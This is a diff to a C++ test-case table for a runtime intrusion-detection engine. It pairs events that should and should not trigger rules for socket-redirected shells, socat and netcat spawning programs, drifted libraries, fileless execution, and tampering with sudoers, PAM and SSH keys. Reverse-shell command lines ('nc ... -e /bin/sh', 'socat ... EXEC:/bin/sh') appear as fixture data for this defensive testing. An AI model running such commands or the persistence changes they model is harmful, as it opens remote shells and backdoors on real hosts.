@@ -42,9 +42,9 @@ std::vector<Case> default_cases() {
   c.push_back({"Standard stream redirected to a network socket",
                connect_ev("203.0.113.5", 4444, nullptr, "dup2"),
                unix_connect("/run/x.sock")});
-  c.back().hit.args = {{"newfd", "0"}};
+  c.back().hit.args = {{"oldfd", "3"}, {"newfd", "0"}, {"oldfd_kind", "socket"}};
   c.back().miss.type = "dup2";
-  c.back().miss.args = {{"newfd", "0"}};
+  c.back().miss.args = {{"oldfd", "3"}, {"newfd", "0"}, {"oldfd_kind", "socket"}};
   c.push_back({"Socat or netcat spawning a program", exec_ev("/usr/bin/socat", {"socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"}),
                exec_ev("/usr/bin/socat", {"socat", "TCP-LISTEN:80", "TCP:app:8080"})});
   c.push_back({"Socat or netcat spawning a program", exec_ev("/bin/nc", {"nc", "203.0.113.5", "4444", "-e", "/bin/sh"}),
@@ -55,11 +55,9 @@ std::vector<Case> default_cases() {
   c.push_back({"Offensive tool executed", exec_ev("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}), exec_ev("/usr/bin/nano", {"nano"})});
   c.push_back({"Drifted binary executed", exec_p(with(proc("/tmp/payload", {"payload"}), [](Process& p) { p.exe_drift = true; })),
                exec_ev("/tmp/payload", {"payload"})});
-  Event lib = open_ev("/tmp/libevil.so", O_RDONLY | O_CLOEXEC);
-  lib.file->drift = true;
-  Event lib_ok = lib;
-  lib_ok.file->path = "/tmp/notes.txt";
-  c.push_back({"Drifted library loaded", lib, lib_ok});
+  Event lib = file_op("mmap", "/tmp/libevil.so");
+  lib.args = {{"drift", "traced_write"}};
+  c.push_back({"Drifted library loaded", lib, file_op("mmap", "/usr/lib/libc.so.6")});
   c.push_back({"Fileless execution from memory", exec_p(with(proc("memfd:x", {"x"}), [](Process& p) { p.exe_from_memfd = true; })),
                exec_ev("/bin/ls", {"ls"})});
   c.push_back({"Program run from /dev/shm", exec_ev("/dev/shm/.x", {"/dev/shm/.x"}), exec_ev("/dev/null2", {"x"})});
@@ -73,6 +71,7 @@ std::vector<Case> default_cases() {
   c.push_back({"Authentication configuration modified", open_ev("/etc/sudoers.d/backdoor", O_WRONLY | O_CREAT),
                open_ev("/etc/sudoers.d/backdoor", O_RDONLY)});
   c.push_back({"Authentication configuration modified", file_op("renameat2", "/tmp/p", "/etc/pam.d/sshd"), file_op("renameat2", "/tmp/p", "/tmp/q")});
+  c.push_back({"Authentication configuration modified", file_op("linkat", "/etc/sudoers.d/x", "/tmp/mine"), file_op("linkat", "/tmp/y", "/etc/sudoers")});
   c.push_back({"SSH authorized keys modified", open_ev("/root/.ssh/authorized_keys", O_WRONLY | O_APPEND),
                open_ev("/root/.ssh/authorized_keys", O_RDONLY)});
   c.push_back({"Cron job modified", open_ev("/etc/cron.d/job", O_WRONLY | O_CREAT), open_ev("/etc/cron.d.txt", O_WRONLY | O_CREAT)});
